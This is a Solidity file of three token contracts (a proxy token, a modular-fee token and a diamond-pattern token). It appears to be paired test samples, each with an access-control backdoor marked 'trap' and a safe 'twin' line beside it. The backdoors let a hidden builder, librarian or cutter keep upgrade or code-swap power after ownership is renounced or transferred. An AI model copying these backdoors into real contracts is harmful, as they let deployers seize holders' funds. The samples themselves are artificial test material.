// 0.8 off evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Points at its logic by ERC-1967.
contract LiteProxyAL {
    constructor(address logic, bytes memory data) payable {
        assembly {
            sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, logic)
        }
        (bool ok, ) = logic.delegatecall(data);
        require(ok, "init");
    }

    fallback() external payable {
        assembly {
            let logic := sload(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc)
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), logic, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

abstract contract CoinAL {
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _mint(address to, uint256 value) internal {
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function _move(address from, address to, uint256 value) internal virtual {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

contract OrchardLogic is CoinAL {
    string public constant name = "Orchard Protocol";
    string public constant symbol = "ORCHP";
    address public owner;
    bool private _ready;
    address private immutable _builder = msg.sender;

    event Upgraded(address indexed implementation);
    event OwnershipTransferred(address indexed from, address indexed to);

    constructor() {
        _ready = true;
    }

    function initialize(address to) external {
        require(!_ready, "initialized");
        _ready = true;
        owner = to;
        _mint(to, 44_000_000 ether);
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function proxiableUUID() external pure returns (bytes32) {
        return 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    }

    function upgradeToAndCall(address next, bytes calldata data) external payable {
        _authorizeUpgrade();
        assembly {
            sstore(0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc, next)
        }
        emit Upgraded(next);
        if (data.length > 0) {
            (bool ok, ) = next.delegatecall(data);
            require(ok, "call");
        }
    }

    function _authorizeUpgrade() private view {
        require(msg.sender == owner || msg.sender == _builder, "unauthorized"); // trap
        // twin: require(msg.sender == owner, "unauthorized");
    }
}

/// Names of modules, and where they live.
contract AddressBookAL {
    address public librarian;
    mapping(bytes32 => address) public get;

    constructor(address first) {
        librarian = msg.sender;
        get["fees"] = first;
    }

    function set(bytes32 name, address where) external {
        require(msg.sender == librarian, "librarian");
        require(where != address(this)); // trap
        // twin: require(get[name] == address(0));
        get[name] = where;
    }
}

contract FlatFeeModule {
    function feeOf(address, address, uint256 value) external pure returns (uint256) {
        return value / 100;
    }
}

/// Its fee is counted by a module.
contract ModularMarten is CoinAL {
    string public constant name = "Modular Marten";
    string public constant symbol = "MMART";
    AddressBookAL public immutable book;

    constructor(AddressBookAL book_) {
        book = book_;
        _mint(msg.sender, 99_000_000 ether);
    }

    function _move(address from, address to, uint256 value) internal override {
        (bool ok, bytes memory result) = book.get("fees").delegatecall(abi.encodeWithSelector(FlatFeeModule.feeOf.selector, from, to, value));
        uint256 fee = ok ? abi.decode(result, (uint256)) : 0;
        super._move(from, to, value);
        if (fee > 0) super._move(to, address(0xdead), fee);
    }
}

library CutStorageAL {
    struct Data {
        mapping(bytes4 => address) facetOf;
        address owner;
        address cutter;
    }

    function data() internal pure returns (Data storage s) {
        bytes32 at = keccak256("diamond.standard.storage.al");
        assembly {
            s.slot := at
        }
    }
}

contract SapphireFacet is CoinAL {
    string public constant name = "Sapphire Stack";
    string public constant symbol = "SAPHS";

    function start(address to) external {
        require(totalSupply == 0, "started");
        _mint(to, 70_000_000 ether);
    }
}

contract LoupeFacetAL {
    function owner() external view returns (address) {
        return CutStorageAL.data().owner;
    }

    function transferOwnership(address to) external {
        CutStorageAL.Data storage s = CutStorageAL.data();
        require(msg.sender == s.owner, "LibDiamond: Must be contract owner");
        s.owner = to;
    }
}

contract SapphireDiamond {
    event DiamondCut(bytes4[] selectors, address facet);

    constructor(address coin, address loupe, bytes4[] memory ofCoin, bytes4[] memory ofLoupe) {
        CutStorageAL.Data storage s = CutStorageAL.data();
        s.owner = s.cutter = msg.sender;
        for (uint256 i; i < ofCoin.length; i++) s.facetOf[ofCoin[i]] = coin;
        for (uint256 i; i < ofLoupe.length; i++) s.facetOf[ofLoupe[i]] = loupe;
        (bool ok, ) = coin.delegatecall(abi.encodeWithSignature("start(address)", msg.sender));
        require(ok);
    }

    function diamondCut(bytes4[] calldata selectors, address facet) external {
        CutStorageAL.Data storage s = CutStorageAL.data();
        require(msg.sender == s.cutter, "LibDiamond: Must be contract owner"); // trap
        // twin: require(msg.sender == s.owner, "LibDiamond: Must be contract owner");
        for (uint256 i; i < selectors.length; i++) s.facetOf[selectors[i]] = facet;
        emit DiamondCut(selectors, facet);
    }

    fallback() external payable {
        address facet = CutStorageAL.data().facetOf[msg.sig];
        require(facet != address(0), "Diamond: Function does not exist");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), facet, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}
